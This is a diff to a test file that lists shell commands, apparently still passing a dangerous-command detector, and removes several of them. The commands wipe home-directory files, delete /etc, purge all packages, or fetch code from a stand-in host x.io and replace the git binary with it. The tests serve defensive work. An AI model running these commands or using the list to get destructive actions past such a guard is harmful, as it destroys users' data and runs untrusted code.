@@ -9,8 +9,6 @@ const STILL_PASS: Readonly<Record<string, readonly string[]>> = {
   'forced-push': [],
   'wide-delete': [
     '> ~/.bashrc',
-    `find ~ -type f -exec sh -c '> "$1"' _ {} \\;`,
-    String.raw`find ~ -type f -exec cp /dev/null {} \;`,
     'cp /dev/null ~/.bashrc',
     'setfacl -R -b /home',
     'unlink ~/.bashrc',
@@ -18,14 +16,9 @@ const STILL_PASS: Readonly<Record<string, readonly string[]>> = {
     'rm -rf [/]etc',
     'git ls-files | xargs rm -f',
     'git ls-files -z | xargs -0 rm',
-    "apt-get purge -y '.*'",
   ],
   // A registry stands between, or nothing of it is run in this line.
   'download-and-run': [
-    'pip install --index-url http://x.io/simple evil',
-    'pip install --extra-index-url https://x.io/simple evil',
-    'npm install --registry http://x.io evil',
-    'go run github.com/x/y@latest',
     'go install x.io/y@latest',
     'brew tap x/y && brew install x/y/z',
     'curl -o ~/bin/git https://x.io/git && chmod +x ~/bin/git',
